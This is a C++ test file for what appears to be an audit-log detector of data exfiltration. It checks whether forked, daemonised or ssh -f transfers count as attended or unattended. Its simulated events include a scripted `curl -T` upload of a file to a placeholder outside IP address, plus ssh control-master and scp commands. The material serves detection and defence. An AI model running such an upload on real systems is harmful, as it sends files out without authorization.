#include "host_with_cron.hpp"

/// Programs that a person starts on a terminal and that leave it without another execve: daemon(3),
/// ssh -f, a terminal that is hung up.
namespace auexfil::test {
namespace {

constexpr int kShell = 502;
constexpr int kTool = 510;
const char* const kAttended = "attended interactive-shell";
const char* const kLeft = "unattended interactive-shell detached";

/// Its parent is gone.
void orphan(Log& log, int pid) {
  log.who(pid).ppid = 1;
}

void typed(CronHost& log) {
  log.person(CronHost::kSshd, kShell - 2, 5);
  log.run(kShell, kTool, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
}

void send(Log& log, int pid) {
  log.send(pid, 3, 150);
  log.send(pid, 3, 65536);
}

void connect_and_send(Log& log, int pid) {
  log.tcp(pid, 3, kDrop, 80);
  send(log, pid);
  log.close(pid, 3);
  log.exit(pid);
}

struct Story {
  const char* name;
  void (*tell)(CronHost& log);
  const char* signs;
};

const std::vector<Story> kStories = {
    {"forks twice, as daemons do",
     [](CronHost& log) {
       log.fork(kTool, 511);
       log.setsid(511);
       log.fork(511, 512);
       log.exit(511);
       orphan(log, 512);
       log.exit(kTool);
       connect_and_send(log, 512);
     },
     kLeft},
    {"forks once",
     [](CronHost& log) {
       log.fork(kTool, 511);
       log.setsid(511);
       log.exit(kTool);
       orphan(log, 511);
       connect_and_send(log, 511);
     },
     kLeft},
    {"connects, asks for a password, and forks off for long (ssh -f)",
     [](CronHost& log) {
       log.tcp(kTool, 3, kDrop, 80);
       send(log, kTool);
       log.fork(kTool, 511);
       log.exit(kTool);
       log.setsid(511);
       orphan(log, 511);
       send(log, 511);
       log.pass(120'000);
       send(log, 511);
       log.close(511, 3);
     },
     kLeft},
    {"the same, for a moment",
     [](CronHost& log) {
       log.tcp(kTool, 3, kDrop, 80);
       send(log, kTool);
       log.fork(kTool, 511);
       log.exit(kTool);
       log.setsid(511);
       orphan(log, 511);
       send(log, 511);
       log.close(511, 3);
     },
     kAttended},
    {"a daemon's workers",
     [](CronHost& log) {
       log.fork(kTool, 511);
       log.setsid(511);
       log.exit(kTool);
       orphan(log, 511);
       log.sendto(511, 9, 30, "127.0.0.1", 514);
       log.fork(511, 512);
       connect_and_send(log, 512);
     },
     kLeft},
    {"the terminal is hung up, and nohup goes on",
     [](CronHost& log) {
       log.tcp(kTool, 3, kDrop, 80);
       send(log, kTool);
       log.exit(kShell);
       log.who(kTool).tty = "(none)";
       orphan(log, kTool);
       send(log, kTool);
       log.pass(120'000);
       send(log, kTool);
       log.close(kTool, 3);
     },
     kLeft},
    {"the terminal is hung up, and a last word goes out",
     [](CronHost& log) {
       log.tcp(kTool, 3, kDrop, 80);
       send(log, kTool);
       log.exit(kShell);
       log.who(kTool).tty = "(none)";
       orphan(log, kTool);
       log.send(kTool, 3, 60);
       log.close(kTool, 3);
     },
     kAttended},
    {"a child without a terminal works for its parent, which has one",
     [](CronHost& log) {
       log.fork(kTool, 511);
       log.setsid(511);
       connect_and_send(log, 511);
     },
     kAttended},
    {"orphaned, on its terminal: ( … & ) of a shell",
     [](CronHost& log) {
       log.fork(kTool, 511);
       log.exit(kTool);
       orphan(log, 511);
       connect_and_send(log, 511);
     },
     kAttended},
};

}  // namespace

TEST_CASE("daemons: who leaves the terminal that a person started it on is set apart") {
  for (const Story& story : kStories) {
    INFO(story.name);
    CronHost log;
    typed(log);
    story.tell(log);
    CHECK(signs_of(one(log)) == story.signs);
  }
}

TEST_CASE("daemons: where no rule asks for forks, a person is not called a robot") {
  for (const Story& story : kStories) {
    INFO(story.name);
    CronHost log("", [](const Called& call) {
      return call.name != "clone" && call.name != "setsid" && call.name != "exit_group";
    });
    typed(log);
    story.tell(log);
    for (const facts::Fact& fact : tell(log)) {
      const bool may_be_left = std::string_view(story.signs) == kLeft;
      CHECK((may_be_left || fact.automation != transfer::Verdict::unattended));
    }
  }
}

TEST_CASE("daemons: a master of ssh that somebody on a terminal shares is theirs") {
  const bool shared = GENERATE(true, false);
  CAPTURE(shared);
  CronHost log;
  log.person(CronHost::kSshd, kShell - 2, 5);
  log.run(kShell, kTool, "/usr/bin/ssh", {"ssh", "-fNM", "-S", "/run/m", kDrop});
  log.tcp(kTool, 3, kDrop, 22);
  send(log, kTool);
  log.fork(kTool, 511);
  log.exit(kTool);
  log.setsid(511);
  orphan(log, 511);
  log.call(511, "socket", 4, {1, 1, 0});
  log.call(511, "bind", 0, {4, 0x7f, 110}, {"SOCKADDR saddr=" + unix_saddr("/run/m")});
  send(log, 511);
  if (shared) {
    log.run(kShell, 520, "/usr/bin/scp", {"scp", "-o", "ControlPath=/run/m", "f", "h:"});
    log.run(520, 521, "/usr/bin/ssh", CronHost::sftp_argv("h"));
    log.call(521, "socket", 4, {1, 1, 0});
    log.call(521, "connect", 0, {4, 0x7f, 110}, {"SOCKADDR saddr=" + unix_saddr("/run/m")});
  }
  log.pass(120'000);
  log.send(511, 3, 300'000);
  log.close(511, 3);
  CHECK(signs_of(one(log)) == (shared ? kAttended : kLeft));
}

}  // namespace auexfil::test
